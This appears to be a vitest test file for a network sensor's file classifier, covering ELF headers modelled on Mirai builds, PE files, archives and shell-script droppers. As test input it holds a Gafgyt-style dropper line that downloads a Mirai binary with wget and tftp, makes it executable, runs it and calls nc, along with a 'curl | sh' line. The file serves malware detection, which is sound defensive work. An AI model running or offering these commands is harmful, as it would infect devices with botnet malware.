// File classification by first bytes: annotated ELF headers of every named machine, dropper scripts, PE,
// archives, the real ELF of ndpi's elf.pcap and TFTP's gzip file, and bounds on random bytes.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { classifyFile, ELF_MACHINES, FILE_LIMITS, mayBeFile } from '../../../../sensor/protocols/file/classify.js';
import { annotated, bytes, loadFixtures } from '../fixtures/load.js';

// The first 20 bytes of a Mirai ARM build (mirai.arm7): ELF32, little endian, ET_EXEC, EM_ARM.
const MIRAI_ARM7 = annotated(`
  7f 45 4c 46        # e_ident[EI_MAG0..3] = 0x7f "ELF"
  01                 # EI_CLASS = ELFCLASS32
  01                 # EI_DATA = ELFDATA2LSB (little endian)
  01                 # EI_VERSION = EV_CURRENT
  61                 # EI_OSABI = ELFOSABI_ARM (97), as some toolchains write it
  00 00 00 00 00 00 00 00   # EI_ABIVERSION + padding
  02 00              # e_type = ET_EXEC
  28 00              # e_machine = 40 (EM_ARM), little endian
  01 00 00 00        # e_version
`);

// A big-endian MIPS build (mirai.mips): ELF32, ELFDATA2MSB, e_machine 8 written big endian.
const MIRAI_MIPS = annotated(`
  7f 45 4c 46 01 02 01 00 00 00 00 00 00 00 00 00   # e_ident: 32-bit, big endian
  00 02              # e_type = ET_EXEC (big endian)
  00 08              # e_machine = 8 (EM_MIPS)
`);

/** An ELF header's first 20 bytes for a class, byte order and machine. */
function elf(bits: 32 | 64, endian: 'little' | 'big', machine: number): Uint8Array {
  const b = new Uint8Array(64);
  b.set([0x7f, 0x45, 0x4c, 0x46, bits === 32 ? 1 : 2, endian === 'little' ? 1 : 2, 1]);
  if (endian === 'little') { b[18] = machine & 255; b[19] = machine >> 8; } else { b[18] = machine >> 8; b[19] = machine & 255; }
  return b;
}

const text = (s: string): Uint8Array => new TextEncoder().encode(s);

describe('classifyFile: ELF', () => {
  it('reads class, byte order and machine of an annotated ARM header', () => {
    expect(classifyFile(MIRAI_ARM7)).toMatchObject({ file_type: 'elf', elf_arch: 'arm', elf_bits: 32, elf_endian: 'little' });
    expect(classifyFile(MIRAI_ARM7).head_hex).toBe('7f454c4601010161000000000000000002002800' + '01000000');
  });
  it('reads e_machine in the header\'s byte order (big-endian MIPS)', () => {
    expect(classifyFile(MIRAI_MIPS)).toMatchObject({ file_type: 'elf', elf_arch: 'mips', elf_bits: 32, elf_endian: 'big' });
  });
  // The System V ABI gABI e_machine values named in the brief and FileTransferEvent.elf_arch.
  const table: [number, string][] = [
    [40, 'arm'], [183, 'aarch64'], [8, 'mips'], [3, 'x86'], [62, 'x86_64'], [20, 'powerpc'], [21, 'powerpc64'],
    [42, 'sh'], [2, 'sparc'], [18, 'sparc'], [43, 'sparc'], [4, 'm68k'], [93, 'arc'], [195, 'arc'], [243, 'riscv'],
  ];
  for (const [m, name] of table) {
    it(`e_machine ${m} is ${name}, in both byte orders and classes`, () => {
      for (const endian of ['little', 'big'] as const) {
        for (const bits of [32, 64] as const) {
          expect(classifyFile(elf(bits, endian, m))).toMatchObject({ file_type: 'elf', elf_arch: name, elf_bits: bits, elf_endian: endian });
        }
      }
    });
  }
  it('names exactly the machines of the table', () => expect([...ELF_MACHINES.keys()].sort((a, b) => a - b)).toEqual(table.map((t) => t[0]).sort((a, b) => a - b)));
  it('an unknown machine is unknown-N; a header cut before e_machine has no arch', () => {
    expect(classifyFile(elf(32, 'little', 9999)).elf_arch).toBe('unknown-9999');
    expect(classifyFile(MIRAI_ARM7.subarray(0, 10))).toMatchObject({ file_type: 'elf', elf_arch: null, elf_bits: 32, elf_endian: 'little' });
    expect(classifyFile(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 9, 9, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 40, 0)))
      .toMatchObject({ file_type: 'elf', elf_arch: null, elf_bits: null, elf_endian: null });
  });
});

describe('classifyFile: scripts, PE, archives', () => {
  it('a Gafgyt-style bins.sh (no #!) is a script with its commands in order', () => {
    const sh = text('cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins/mirai.arm7; chmod +x mirai.arm7; ./mirai.arm7 selfrep\n'
      + 'cd /tmp; /bin/busybox tftp -g -r mirai.mips 198.51.100.7; nc 198.51.100.7 1337\n');
    expect(classifyFile(sh)).toMatchObject({ file_type: 'script', script_commands: ['cd', 'wget', 'chmod', 'busybox', 'nc'] });
  });
  it('#! makes a script even without dropper commands; curl|sh chains are found', () => {
    expect(classifyFile(text('#!/bin/sh\necho hi\n'))).toMatchObject({ file_type: 'script', script_commands: [] });
    expect(classifyFile(text('#!/bin/sh\ncurl -s http://x/a.sh | sh; ftpget -u a 1.2.3.4 b b\n')).script_commands).toEqual(['curl', 'ftpget']);
  });
  it('prose that mentions wget and curl is not a script (not in command position)', () => {
    expect(classifyFile(text('<html><body>Use wget or curl to download the firmware.</body></html>')).file_type).toBe('other');
    expect(classifyFile(text('cd /home/user')).file_type).toBe('other'); // one command, and not a writable dir
  });
  it('PE and archives by magic', () => {
    expect(classifyFile(annotated('4d 5a 90 00 03 00 00 00  # "MZ" DOS header')).file_type).toBe('pe');
    expect(classifyFile(annotated('1f 8b 08 00 00 00 00 00  # gzip, CM = 8 (RFC 1952)')).file_type).toBe('archive');
    expect(classifyFile(annotated('50 4b 03 04 14 00  # zip local file header')).file_type).toBe('archive');
    expect(classifyFile(annotated('fd 37 7a 58 5a 00 00 04  # xz stream header')).file_type).toBe('archive');
    expect(classifyFile(text('BZh91AY&SY')).file_type).toBe('archive');
    expect(classifyFile(text('BZhX')).file_type).toBe('other');
  });
  it('head_hex is at most 32 bytes', () => {
    expect(classifyFile(new Uint8Array(100)).head_hex).toHaveLength(64);
    expect(classifyFile(new Uint8Array(0))).toMatchObject({ file_type: 'other', head_hex: '' });
  });
});

describe('classifyFile: real files', () => {
  it('the gzip file of tftp.pcap\'s WRQ zz.bin (DATA block 1) is an archive', () => {
    const fx = loadFixtures('tftp').find((f) => f.tshark['tftp.block']?.[0] === '1' && f.tshark['tftp.destination_file']?.[0] === 'zz.bin');
    expect(fx).toBeDefined();
    expect(classifyFile(bytes(fx!.hex).subarray(4)).file_type).toBe('archive');
  });
  it('the RFC text of tftp.pcap\'s RRQ is not a file type we name', () => {
    const fx = loadFixtures('tftp').find((f) => f.tshark['tftp.block']?.[0] === '1' && f.tshark['tftp.destination_file']?.[0] === 'rfc1350.txt');
    expect(classifyFile(bytes(fx!.hex).subarray(4)).file_type).toBe('other');
  });
});

describe('classifyFile: properties', () => {
  it('random bytes and every prefix of the headers never throw and stay bounded', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 3000 }), (b) => {
      const c = classifyFile(b);
      expect(c.head_hex.length).toBeLessThanOrEqual(2 * FILE_LIMITS.headBytes);
      expect(c.script_commands.length).toBeLessThanOrEqual(FILE_LIMITS.commands);
    }), { numRuns: 2000 });
    for (const h of [MIRAI_ARM7, MIRAI_MIPS]) for (let n = 0; n <= h.length; n++) classifyFile(h.subarray(0, n));
  });
  it('any bytes after the ELF magic give an ELF', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 64 }), (rest) => {
      const b = new Uint8Array(4 + rest.length);
      b.set([0x7f, 0x45, 0x4c, 0x46]);
      b.set(rest, 4);
      expect(classifyFile(b).file_type).toBe('elf');
    }));
  });
});

describe('mayBeFile: the cheap look agrees with classifyFile', () => {
  it('whenever classifyFile names a type, mayBeFile said yes (random and magic-prefixed bytes)', () => {
    const prefixes = ['', '\x7fELF', 'MZ', '\x1f\x8b\x08', 'PK\x03\x04', '\xfd7zXZ\x00', 'BZh9', '#!', 'cd /tmp; wget x; chmod 777 x\n'];
    fc.assert(fc.property(fc.constantFrom(...prefixes), fc.uint8Array({ maxLength: 300 }), (pre, rest) => {
      const b = new Uint8Array([...Buffer.from(pre, 'latin1'), ...rest]);
      if (classifyFile(b).file_type !== 'other') expect(mayBeFile(b)).toBe(true);
    }), { numRuns: 5000 });
  });
});
